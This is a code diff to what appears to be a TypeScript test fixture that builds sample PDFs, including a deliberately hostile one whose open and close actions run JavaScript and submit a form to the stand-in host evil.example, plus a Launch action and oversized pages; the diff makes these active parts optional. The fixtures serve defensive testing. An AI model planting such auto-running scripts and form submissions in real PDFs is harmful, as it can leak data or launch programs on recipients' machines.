@@ -14,7 +14,7 @@ const PARAGRAPH =
   'The landlord lets the flat to the tenant for use as a home. The rent falls due on the second day of each month. ' +
   'The tenant looks after the flat with care, and the landlord keeps it in the condition that was agreed.';
 
-/** A contract as a sender would send it: so many pages of A4 with text. */
+/** A contract of A4 pages with text. */
 export async function contractPdf(pages = 3): Promise<Uint8Array> {
   const pdf = await PDFDocument.create();
   const serif = await pdf.embedFont(StandardFonts.TimesRoman);
@@ -42,8 +42,8 @@ export async function contractPdf(pages = 3): Promise<Uint8Array> {
   return pdf.save();
 }
 
-/** Everything that a document can do besides being read: scripts, launching programs, links, and pages out of all measure. */
-export async function hostilePdf(): Promise<Uint8Array> {
+/** A document with links and oversized pages and, if active, scripts and program launches. */
+export async function hostilePdf({ active } = { active: true }): Promise<Uint8Array> {
   const pdf = await PDFDocument.create();
   const { context } = pdf;
   const script = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
@@ -59,28 +59,30 @@ export async function hostilePdf(): Promise<Uint8Array> {
   page.node.set(
     PDFName.of('Annots'),
     context.obj([
-      annotation(launch, [40, 40, 180, 120]),
+      annotation(active ? launch : link, [40, 40, 180, 120]),
       annotation(link, [200, 40, 360, 120]),
-      annotation(script('app.launchURL("https://evil.example/")'), [40, 140, 360, 280]),
+      annotation(active ? script('app.launchURL("https://evil.example/")') : link, [40, 140, 360, 280]),
     ]),
   );
-  page.node.set(PDFName.of('AA'), context.obj({ O: script('app.alert("page opened")') }));
-  pdf.catalog.set(
-    PDFName.of('OpenAction'),
-    script('app.alert("opened"); this.submitForm("https://evil.example/")'),
-  );
-  pdf.catalog.set(PDFName.of('AA'), context.obj({ WC: script('app.alert("closing")') }));
+  if (active) {
+    page.node.set(PDFName.of('AA'), context.obj({ O: script('app.alert("page opened")') }));
+    pdf.catalog.set(
+      PDFName.of('OpenAction'),
+      script('app.alert("opened"); this.submitForm("https://evil.example/")'),
+    );
+    pdf.catalog.set(PDFName.of('AA'), context.obj({ WC: script('app.alert("closing")') }));
+  }
 
   pdf.addPage([14_400, 14_400]).drawText('Far too large', { x: 1000, y: 7000, size: 900 });
   pdf.addPage([3, 14_400]);
   return pdf.save();
 }
 
-/** A scan as fax machines and scanners make it: a black square in CCITT G4, which pdf.js decodes with WebAssembly. */
+/** A scan in CCITT G4, as fax machines make it: a black square. pdf.js decodes it with WebAssembly. */
 export async function scannedPdf(): Promise<Uint8Array> {
   const pdf = await PDFDocument.create();
   const page = pdf.addPage([200, 200]);
-  // White 0, black 64; then "as the line above" for 63 lines; then the end of the block.
+  // First line: 0 white, 64 black pixels. Then 63 lines that equal the line above, and the end of the block.
   const bits = `001${'00110101'}${'0000001111'}${'0000110111'}${'11'.repeat(63)}${'000000000001'.repeat(2)}`;
   const bytes = bits.match(/.{1,8}/g)?.map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)) ?? [];
   const image = pdf.context.stream(Uint8Array.from(bytes), {
